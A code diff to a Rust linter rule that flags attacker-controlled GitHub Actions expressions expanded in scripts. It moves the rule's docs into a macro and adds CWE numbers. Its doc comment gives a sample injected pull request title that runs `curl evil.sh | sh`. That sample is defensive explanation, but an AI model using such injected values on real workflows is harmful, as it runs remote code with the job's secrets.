@@ -1,18 +1,6 @@
-//! ## What it does
-//! Flags attacker-controlled expressions (`${{ github.event.issue.title }}`,
-//! `${{ github.head_ref }}` …) expanded inside `run:` scripts and
-//! `actions/github-script` code.
-//!
-//! ## Why is this bad
-//! Expressions are substituted into the script text before the shell runs
-//! it: a pull request titled `a"; curl evil.sh | sh; echo "` runs that
-//! command with the job's token and secrets.
-//!
-//! ## Fix
-//! Pass the value through an environment variable and quote it:
-//! `env: { TITLE: ${{ github.event.issue.title }} }` and `"$TITLE"`.
+//! The `template-injection` audit: the docs are the doc comment of the `rule_meta!` below.
 
-use pipeguard_core::{Confidence, Severity};
+use pipeguard_core::{Confidence, Severity, rule_meta};
 use regex::Regex;
 
 use super::{Audit, Meta, Sink};
@@ -21,15 +9,25 @@ use crate::yaml::Node;
 
 pub struct TemplateInjection;
 
-static META: Meta = Meta {
-    id: "template-injection",
-    name: "Attacker-controlled expression in a script",
-    severity: Severity::High,
-    confidence: Confidence::High,
-    fix: "Move the expression to `env:` and use the variable, quoted, in the script (`\"$VALUE\"`).",
-    cwe: &[],
-    docs: "",
-};
+rule_meta! {
+    /// ## What it does
+    /// Flags attacker-controlled expressions (`${{ github.event.issue.title }}`,
+    /// `${{ github.head_ref }}` …) expanded inside `run:` scripts and
+    /// `actions/github-script` code.
+    ///
+    /// ## Why is this bad
+    /// Expressions are substituted into the script text before the shell runs
+    /// it: a pull request titled `a"; curl evil.sh | sh; echo "` runs that
+    /// command with the job's token and secrets.
+    static META = {
+        id: "template-injection",
+        name: "Attacker-controlled expression in a script",
+        severity: Severity::High,
+        confidence: Confidence::High,
+        fix: "Move the expression to `env:` and use the variable, quoted, in the script (`\"$VALUE\"`).",
+        cwe: &[94, 78],
+    };
+}
 
 /// Contexts an outsider controls: titles, bodies, branch names, commit
 /// messages and author fields of events they can create.
